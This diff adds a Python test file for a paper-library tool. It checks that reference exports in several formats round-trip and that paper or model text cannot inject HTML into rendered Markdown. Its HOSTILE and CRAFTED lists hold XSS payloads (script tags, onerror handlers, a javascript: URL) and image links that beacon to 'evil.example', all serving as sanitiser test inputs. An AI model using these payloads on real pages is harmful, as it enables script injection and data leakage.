@@ -1,0 +1,302 @@
+"""References: what every format holds, that it comes back the same, and that nothing breaks out."""
+
+from __future__ import annotations
+
+import html
+import io
+import json
+import re
+from dataclasses import replace
+from pathlib import Path
+from typing import Any
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+
+from rag import Paper, Refused, iter_papers
+from rag.libraries import BUNDLED_SOURCE
+from rag.papers import paper_id
+from rag.readers import bibtex, json_array, ris
+from rag.references import FORMATS, citation_key, format_of, references
+from rag.references.bibtex import bibtex_entry
+from rag.references.markdown import escaped, harmless, reference
+from rag.text import clean_markup
+
+READ_BACK = {"bibtex": ".bib", "ris": ".ris", "csl": ".csl.json", "jsonl": ".jsonl"}
+
+
+def paper(title: str, abstract: str = "We test it.", own_id: str = "", **fields: Any) -> Paper:
+    """A paper as a library holds it: cleaned, under the id that its fields give."""
+    made = Paper(own_id, clean_markup(title), clean_markup(abstract), **fields)
+    own = own_id or paper_id(made.title, doi=made.doi, arxiv_id=made.arxiv_id)
+    return replace(made, id=own)
+
+
+ODD = [
+    paper(
+        "Rates of {Change} & 5% of $x_{1}$, ~2^3 #4",
+        "36% over BERT_base at 2^10 -- or ---, ``so'' to 'speak'. A { alone. {And} \\emph x.",
+        authors=("Ada Clark", "Gabriel García Márquez", "Martin King Jr."),
+        year=2021,
+        venue="Journal of A & B: 100%",
+        doi="10.1002/(sici)1097-0258(19980815)17:15<1661::aid-sim968>3.0.co;2-2",
+        url="https://example.org/a_b;c~d/%7Ee?x=1&y={z}#f",
+        metadata={"tags": ["large language models", "R&D"]},
+    ),
+    paper("注意力机制", "我们提出了一种方法。", authors=("王 伟", "Ōe Kenzaburō"), year=1994),
+    paper(
+        "Größe und Maß",
+        'Ångström <b>bold</b> <img src=x> \u201cquoted\u201d "plain" it\'s',
+        year=1905,
+    ),
+    paper("ER  - and TY  - JOUR", "AB  - @misc{x, title = {y}} TI  - z", venue="T2 - ER"),
+    paper("Without anything else", ""),
+    paper("Without abstract, from a library", "", arxiv_id="1706.03762", venue="arXiv"),
+    paper("Attention", arxiv_id="cs/0112017", url="https://arxiv.org/abs/cs/0112017"),
+    paper("Groups", authors=("Data Group, Inc.", "Barnes & Noble, Ltd.", "Alice and Bob Lab")),
+    paper("Kept id", own_id="own id/7_(b)", year=2020),
+    paper("Kept id, though it has a DOI", own_id="first-met-with-1a2b3c", doi="10.1000/x_y"),
+    paper("Found on a page", url="http://example.org/"),
+    paper("A very long abstract", "word " * 20_000 + "end."),
+    paper('"Quoted" title, with a comma, and {brace', "Ends with a backslash \\"),
+    paper("@article{hidden, title = {no}}", "# heading"),
+    paper("What?`` and !` ... <<x>>", "--- -- - ''' ``` ' `"),
+]
+
+
+LAST = Paper("last-1", "The Last", "It ends.")
+
+
+def read_again(papers: list[Paper], form: str, folder: Path) -> list[Paper | Refused]:
+    path = folder / f"export{READ_BACK[form]}"
+    path.write_text(references(papers, form), encoding="utf-8")
+    return list(iter_papers(path))
+
+
+def same(one: Paper, other: Paper | Refused) -> None:
+    assert isinstance(other, Paper), other
+    for name in ("id", "title", "abstract", "authors", "year", "venue", "url", "doi", "arxiv_id"):
+        assert getattr(other, name) == getattr(one, name), (one.id, name)
+    assert other.metadata == one.metadata
+
+
+@pytest.mark.parametrize("form", READ_BACK)
+def test_the_bundled_papers_come_back_the_same(form: str, tmp_path: Path) -> None:
+    papers = [each for each in iter_papers(BUNDLED_SOURCE) if isinstance(each, Paper)]
+    assert len(papers) == 251
+    again = read_again(papers, form, tmp_path)
+    assert len(again) == 251
+    for one, other in zip(papers, again, strict=True):
+        same(one, other)
+
+
+@pytest.mark.parametrize("form", READ_BACK)
+@pytest.mark.parametrize("odd", ODD, ids=lambda each: each.id[:30])
+def test_an_odd_paper_comes_back_the_same(odd: Paper, form: str, tmp_path: Path) -> None:
+    (again,) = read_again([odd], form, tmp_path)
+    same(odd, again)
+
+
+@pytest.mark.parametrize("form", READ_BACK)
+def test_an_id_survives_though_an_address_or_a_venue_tells_another(
+    form: str, tmp_path: Path
+) -> None:
+    papers = [
+        paper("One", url="https://arxiv.org/abs/2001.00001"),
+        paper("Two", url="https://doi.org/10.1000/two"),
+        paper("Three", arxiv_id="2001.00003", url="https://doi.org/10.1000/three"),
+        paper("Four", venue="arXiv preprint arXiv:2001.00004"),
+    ]
+    again = read_again(papers, form, tmp_path)
+    assert [each.id for each in again if isinstance(each, Paper)] == [each.id for each in papers]
+
+
+def readable(text: str) -> str:
+    return clean_markup(" ".join(text.split()))
+
+
+TEXTS = st.text(
+    st.one_of(
+        st.sampled_from("\\{}%&$#_~^`'\"-@<>,;=: \n\r\t\x85\u2028aB1é注"),
+        st.characters(codec="utf-8"),
+    ),
+    max_size=60,
+)
+
+
+@given(TEXTS, TEXTS, st.lists(TEXTS, max_size=3), TEXTS)
+def test_whatever_its_text_a_record_stays_one_record_with_its_id(
+    title: str, abstract: str, authors: list[str], venue: str
+) -> None:
+    if not readable(title):
+        return
+    odd = replace(paper(title, abstract), authors=tuple(authors), venue=venue or None)
+    odd = replace(odd, id="kept-1")
+    for form, module in (("bibtex", bibtex), ("ris", ris), ("csl", json_array)):
+        text = references([odd, LAST], form)
+        found = [each for _, each in module.read(io.StringIO(text))]
+        assert [each.id for each in found if isinstance(each, Paper)] == ["kept-1", "last-1"], text
+        assert len(found) == 2
+        assert found[-1].title == LAST.title
+
+
+def test_a_key_is_one_that_pandoc_takes_and_other_papers_have_others() -> None:
+    ids = [
+        "a b",
+        "a-b",
+        "a/b",
+        "a (b)",
+        "注意",
+        "力",
+        "doi:10.1/x--y",
+        "doi:10.1/x-y",
+        "_",
+        ":",
+        "",
+    ]
+    keys = [citation_key(Paper(each, "T", "")) for each in ids]
+    assert len(set(keys)) == len(ids)
+    # https://pandoc.org/MANUAL.html#citation-syntax: single punctuation within a key
+    assert [key for key in keys if not re.fullmatch(r"\w+([:./-]\w+)*", key, re.ASCII)] == []
+
+
+def test_a_field_that_the_library_lacks_is_in_no_format() -> None:
+    bare = paper("On Rates", "")
+    assert bibtex_entry(bare) == f"@misc{{{bare.id},\n  title = {{{{On Rates}}}},\n}}\n"
+    assert references([bare], "ris") == "TY  - GEN\nTI  - On Rates\nER  - \n\n"
+    assert json.loads(references([bare], "csl")) == [
+        {
+            "id": bare.id,
+            "type": "document",
+            "title": "On Rates",
+            "custom": {"papertrail-id": bare.id},
+        }
+    ]
+    assert references([bare], "markdown") == "1. On Rates.\n"
+
+
+def test_a_reference_in_markdown_names_what_is_known() -> None:
+    known = paper(
+        "Is it?", authors=("Ada Clark", "Bo Li"), year=2021, venue="ACL", doi="10.1000/a<b>"
+    )
+    assert (
+        reference(known)
+        == "Ada Clark, Bo Li. 2021. Is it? *ACL*. <https://doi.org/10.1000/a%3Cb%3E>"
+    )
+    assert reference(paper("Eprint", arxiv_id="2001.00001")).endswith(
+        " <https://arxiv.org/abs/2001.00001>"
+    )
+    assert "javascript" not in reference(paper("Script", url="javascript:alert(1)"))
+
+
+def test_no_paper_gives_a_text_that_can_be_read() -> None:
+    assert {form: references([], form) for form in FORMATS} == {
+        "bibtex": "",
+        "ris": "",
+        "csl": "[]\n",
+        "jsonl": "",
+        "markdown": "",
+    }
+
+
+def test_a_paper_that_comes_twice_is_written_once() -> None:
+    assert references([LAST, LAST], "ris").count("TY  - ") == 1
+
+
+@pytest.mark.parametrize(
+    ("name", "form"),
+    [
+        ("a.bib", "bibtex"),
+        ("A.RIS", "ris"),
+        ("a.csl.json", "csl"),
+        ("a.json", "csl"),
+        ("a.jsonl", "jsonl"),
+        ("a.md", "markdown"),
+        ("a.txt", None),
+    ],
+)
+def test_a_file_name_tells_the_format(name: str, form: str | None) -> None:
+    assert format_of(Path("folder.ris") / name) == form
+
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "![x](http://evil.example/?leak)",
+    "![x][ref]",
+    "\\<img src=x>",
+    "\\\\<img src=x>",
+    "\\![x](http://evil.example)",
+    "<!-- hidden",
+    "a\n\n<div>",
+    "a\n# heading",
+    "`x`{=html}",
+    "&lt;b&gt;",
+    "$x$ <b>",
+]
+
+
+def rendered(markdown: str) -> str:
+    return MarkdownIt("commonmark").enable("table").render(markdown)
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_text_of_a_paper_is_shown_and_does_nothing(text: str) -> None:
+    page = rendered(f"[1] {escaped(text)}\n> {escaped(text)}\n")
+    assert set(re.findall(r"<\s*/?\s*(\w+)", page)) <= {"p", "blockquote"}
+    plain = html.unescape(re.sub(r"<[^>]*>", "", page))
+    assert " ".join(text.split()) in plain
+
+
+# A page may see code elsewhere than we do; then nothing may be left alone.
+CRAFTED = [
+    "\\`<img src=x>\\`",
+    "a ` b\n`<img src=x>` c",
+    "``a` <img src=x> `",
+    "| `a | <img src=x> ` |\n|---|---|\n| `a | <img src=x> ` |",
+    "```\n ```\n<script>x</script>\n```",
+    " ```\nfoo\n```\n<script>x</script>\n```",
+    "- a\n\n  ```\n<script>x</script>\n\n```\n<script>\n```",
+    "> ```\n<script>x</script>\n```\n",
+    "```a b\nfoo\n```\n<script>x</script>\n```",
+    "$<img src=x>$",
+    "\\(<img src=x>\\)",
+    "~~~\n```\n~~~\n<script>x</script>\n```\n",
+    "`a`` <img src=x> ``b` <img src=y>",
+    "[a]: <`>\n<img src=x>`",
+]
+
+
+@pytest.mark.parametrize("text", [*HOSTILE, *CRAFTED])
+def test_a_model_cannot_put_html_or_images_into_a_page(text: str) -> None:
+    page = rendered(harmless(text))
+    made = {"p", "h1", "code", "pre", "ul", "li", "blockquote", "a", "table", "thead", "tbody"}
+    assert set(re.findall(r"<\s*/?\s*(\w+)", page)) <= made | {"tr", "th", "td", "em", "hr"}
+    assert not re.search(r"`\s*\{\s*=", harmless(text))
+
+
+def test_code_and_formulas_of_a_model_stay_as_they_are() -> None:
+    text = (
+        "Use `<s>` or\n\n```python\nif a<b: print('![x](y)')\n```\nwhere $x_1 \\le 3$, **now** [1]."
+    )
+    assert harmless(text) == text
+    assert harmless("it is $a<b$") == "it is $a< b$"  # the same to TeX, and no tag
+
+
+PARTS = ["`", "``", "```", "~~~", "<img src=x>", "<script>", "<!--", "![a](b)", "[a]: ", "{=html}"]
+PARTS += ["\n", "\n\n", " ", "    ", "- ", "> ", "1. ", "\\", "|", "|---|\n", "$", "\\(", '"', "a"]
+
+
+@given(st.lists(st.sampled_from(PARTS), max_size=14))
+def test_no_cut_of_code_lets_html_through(parts: list[str]) -> None:
+    page = rendered(harmless("".join(parts)))
+    assert re.findall("<(?:img|script|!--)", page) == []
+
+
+@given(st.text("`~<>imgsrc=x\n |\\$[]()!{}-*#+_&;:.1)%^@'\"/", max_size=60))
+def test_any_text_of_a_paper_is_shown_as_it_is(text: str) -> None:
+    page = rendered(f"> {escaped(text)}\n")
+    plain = html.unescape(re.sub(r"</?(?:p|blockquote)>", "", page))
+    assert " ".join(plain.split()) == " ".join(text.split())
